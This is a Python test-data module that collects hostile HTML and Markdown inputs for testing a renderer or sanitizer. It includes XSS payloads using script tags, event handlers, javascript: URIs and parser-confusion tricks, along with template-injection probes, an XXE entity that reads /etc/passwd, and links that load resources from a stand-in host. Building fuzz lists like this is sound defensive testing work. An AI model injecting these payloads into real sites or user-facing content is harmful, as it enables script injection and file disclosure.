"""Texts that people type to break a page: HTML in every spelling, Markdown syntax turned against itself."""

import json
import os
from pathlib import Path

HTML = (
    "<script\n>alert(1)</script>",
    "<script>alert(1)\n</script\n><script>alert(1)</script>",
    "<img src=x\nonerror=alert(1)>",
    "<a\nhref='javascript:alert(1)'>x</a>",
    *r"""
<script>alert(1)</script>
<SCRIPT SRC=https://trap.example/a.js></SCRIPT>
<script src=//trap.example/a.js></script>
<script >alert(1)</script >
<script/x>alert(1)</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<<script>alert(1)//<</script>
</title><script>alert(1)</script>
</style><script>alert(1)</script>
</textarea><script>alert(1)</script>
</noscript><script>alert(1)</script>
</p></td></tr></table></main></body></html><script>alert(1)</script>
--><script>alert(1)</script>
]]><script>alert(1)</script>
"><script>alert(1)</script>
'><script>alert(1)</script>
" onmouseover="alert(1)
' onmouseover='alert(1)
" onfocus=alert(1) autofocus x="
` onmouseover=`alert(1)
" style="position:fixed;inset:0
"/><img src=x onerror=alert(1)>
<img src=x onerror=alert(1)>
<img src=x onerror=alert(1)//
<img/src=x/onerror=alert(1)>
<img src="javascript:alert(1)">
<img src=`javascript:alert(1)`>
<img src="x" srcset="https://trap.example/a.png 1x">
<img '''><script>alert(1)</script>'>
<image src=x onerror=alert(1)>
<picture><source srcset=https://trap.example/a.png><img></picture>
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><script href="https://trap.example/a.js"/></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><a xlink:href="javascript:alert(1)"><text x=9 y=9>x</text></a></svg>
<svg><use href="https://trap.example/a.svg#x"/></svg>
<svg><image href="https://trap.example/a.png"/></svg>
<svg><foreignObject><iframe src="https://trap.example"></iframe></foreignObject></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
<math href="javascript:alert(1)">x</math>
<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>
<iframe src="https://trap.example"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe src="javascript:alert(1)">
<object data="data:text/html,<script>alert(1)</script>"></object>
<object type="text/x-scriptlet" data="https://trap.example"></object>
<embed src="https://trap.example/a.swf">
<embed src="javascript:alert(1)">
<applet code=x></applet>
<frameset><frame src="https://trap.example"></frameset>
<link rel=stylesheet href=https://trap.example/a.css>
<link rel="attachment" href="file:///etc/passwd">
<link rel=preload as=script href=https://trap.example/a.js>
<link rel=dns-prefetch href=//trap.example>
<style>@import 'https://trap.example/a.css'</style>
<style>p{background:url(https://trap.example/a.png)}</style>
<style>*{display:none}</style>
<style><!--</style><script>alert(1)</script>
<base href="https://trap.example/">
<base target="_top">
<meta http-equiv="refresh" content="0;url=https://trap.example">
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<meta charset="utf-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-
<meta name="referrer" content="unsafe-url">
<form action=https://trap.example><input name=a><button>x</button></form>
<form id=x></form><button form=x formaction="javascript:alert(1)">x</button>
<input onfocus=alert(1) autofocus>
<input type=image src=x onerror=alert(1)>
<select onfocus=alert(1) autofocus><option>x</select>
<textarea autofocus onfocus=alert(1)>
<keygen autofocus onfocus=alert(1)>
<isindex type=image src=x onerror=alert(1)>
<button onclick=alert(1)>x</button>
<details open ontoggle=alert(1)><summary>x</summary></details>
<dialog open onclose=alert(1)>x</dialog>
<marquee onstart=alert(1)>x</marquee>
<video src=x onerror=alert(1)></video>
<video><source onerror="alert(1)"></video>
<video poster="https://trap.example/a.png"></video>
<audio src=x onerror=alert(1)></audio>
<track src="https://trap.example/a.vtt">
<body onload=alert(1)>
<body background="https://trap.example/a.png">
<html manifest="https://trap.example/a.appcache">
<table background="https://trap.example/a.png"><td>x</table>
<td background="javascript:alert(1)">
<plaintext>
<xmp><script>alert(1)</script></xmp>
<listing><script>alert(1)</script></listing>
<noembed><img src=x onerror=alert(1)></noembed>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<template><script>alert(1)</script></template>
<slot onslotchange=alert(1)>
<x onmouseover=alert(1)>x</x>
<x contenteditable onblur=alert(1)>x</x>
<xss id=x tabindex=1 onfocus=alert(1)></xss>
<custom-element onclick=alert(1)>x</custom-element>
<a href="javascript:alert(1)">x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href=" &#14; javascript:alert(1)">x</a>
<a href="java&#x0A;script:alert(1)">x</a>
<a href="&#106;&#97;vascript:alert(1)">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="https://trap.example" onclick="alert(1)">x</a>
<a href="https://trap.example" ping="https://trap.example/ping">x</a>
<a target=_blank href=//trap.example>x</a>
<p style="background:url(https://trap.example/a.png)">x</p>
<p style="width:expression(alert(1))">x</p>
<div style="-moz-binding:url(https://trap.example/a.xml#x)">x</div>
<font color="x" onmouseover=alert(1)>x</font>
<b <script>alert(1)</script>0
<b/alt="1"onmouseover=alert(1)>x</b>
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<!-- --!><script>alert(1)</script> -->
<!--><script>alert(1)</script>-->
<!-- hidden --><b>x</b>
<![CDATA[<script>alert(1)</script>]]>
<?xml-stylesheet href="javascript:alert(1)"?>
<?php echo 1 ?>
<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;
<!ENTITY x "y">
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;
&amp;lt;script&amp;gt;
&lt
&ltscript&gtalert(1)&lt/script&gt
%3Cscript%3Ealert(1)%3C/script%3E
＜script＞alert(1)＜/script＞
‹script›alert(1)‹/script›
\u003cscript\u003ealert(1)\u003c/script\u003e
\x3cscript\x3ealert(1)\x3c/script\x3e
{{ 7 * 7 }}{% include "/etc/passwd" %}
{{ ''.__class__.__mro__ }}
{% raw %}<script>alert(1)</script>{% endraw %}
{# hidden #}x
${7*7}#{7*7}<%= 7*7 %>
javascript:alert(1)
url(https://trap.example/a.png)
} </style> { background: url(https://trap.example/a.png)
*/ body { background: url(https://trap.example/a.png) } /*
U+202E right to left ‮txt.exe
<ſcript>alert(1)</ſcript>
<İframe src=x>
""".strip().split("\n"),
)
MARKDOWN = (
    *r"""
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](java&#115;cript:alert(1))
[x](&#x6A;avascript:alert(1))
[x](javascript&colon;alert(1))
[x](java%73cript:alert(1))
[x](vbscript:msgbox(1))
[x](livescript:alert(1))
[x](data:text/html;base64,PHNjcmlwdD4=)
[x](file:///etc/passwd)
[x](//trap.example/a)
[x](\\trap.example\a)
[x](../../secret.html)
[x](/etc/passwd)
[x](#top)
[x]()
[x](<>)
[x](https://trap.example/"onmouseover="alert(1))
[x](https://trap.example/'onmouseover='alert(1))
[x](https://trap.example/><script>alert(1)</script>)
[x](<javascript:alert(1)>)
[x](<https://trap.example/ " onclick="alert(1)>)
[x](https://trap.example "t\" onclick=\"alert(1)")
[x](https://trap.example 't" onclick="alert(1)')
[x](https://trap.example "<script>alert(1)</script>")
[x](https://trap.example@evil.example/)
[x]( javascript:alert(1))
[x](:javascript:alert(1))
[x](mailto:a@b.example?body=<script>)
[x](mailto:a@b.example?attach=/etc/passwd)
[x](tel:+1'"><script>)
[<script>alert(1)</script>](https://trap.example)
[![x](javascript:alert(1))](https://trap.example)
[[x](javascript:alert(1))](https://trap.example)
[x](https://trap.example "a")(javascript:alert(1))
![x](https://trap.example/a.png)
![x](javascript:alert(1))
![x](file:///etc/passwd "title")
![x](https://trap.example/a.png "x" onerror="alert(1)")
![x][1]
[x][1]
[1]: javascript:alert(1)
[x]: https://trap.example "<script>alert(1)</script>"
[^1]: <script>alert(1)</script>
x[^1] and [^1]
*[HTML]: <script>alert(1)</script>
<javascript:alert(1)>
<data:text/html,x>
<https://trap.example/"onmouseover="alert(1)>
<https://trap.example/<script>>
<a@b.example" onclick="alert(1)>
https://trap.example/<script>alert(1)</script>
https://trap.example/"onmouseover="alert(1)
www.trap.example
{: onclick="alert(1)" }
# x {: style="position:fixed" }
# x {#id onclick=alert(1)}
**x**{: .late style="color:red"}
[x](https://trap.example){: onclick=alert(1)}
`<script>alert(1)</script>`
``` <script>alert(1)</script> ```
~~~ html <script>alert(1)</script>
**<script>alert(1)</script>**
*<img src=x onerror=alert(1)>*
_<svg onload=alert(1)>_
\<script>alert(1)\</script>
\[x](javascript:alert(1))
$$<script>alert(1)</script>$$
!!! danger "x"
??? "x"
[TOC]
[[wiki]]
:smile: :javascript:
==x== ~~x~~ ^^x^^
--8<-- "/etc/passwd"
{!/etc/passwd!}
::: include /etc/passwd
<!-- markdownlint-disable -->
""".strip().split("\n"),
    "x\n\n    <script>alert(1)</script>",
    "x\n\n```html\n<script>alert(1)</script>\n```",
    "````\n```\n<script>alert(1)</script>\n```\n````",
    "> <script>alert(1)</script>\n> > <img src=x onerror=alert(1)>",
    "- <img src=x onerror=alert(1)>\n  - <script>alert(1)</script>",
    "1. <script>\n2. alert(1)\n3. </script>",
    "[x]\n\n[x]: javascript:alert(1)",
    "[x](\njavascript:alert(1))",
    "[x](java\nscript:alert(1))",
    "<script>\nalert(1)\n</script>",
    "<div>\n\n**x**\n\n</div>",
    "a | b\n--- | ---\n<script>alert(1)</script> | <img src=x onerror=alert(1)>",
    "<!--\n-->\n<script>alert(1)</script>",
    "x\n===\n<script>alert(1)</script>\n---",
    "---\ntitle: <script>alert(1)</script>\n---",
)


def naughty_strings() -> tuple[str, ...]:
    """The Big List of Naughty Strings, where the variable BLNS names its file; it is not part of this repository."""
    path = os.environ.get("BLNS")
    return tuple(json.loads(Path(path).read_text(encoding="utf-8"))) if path else ()
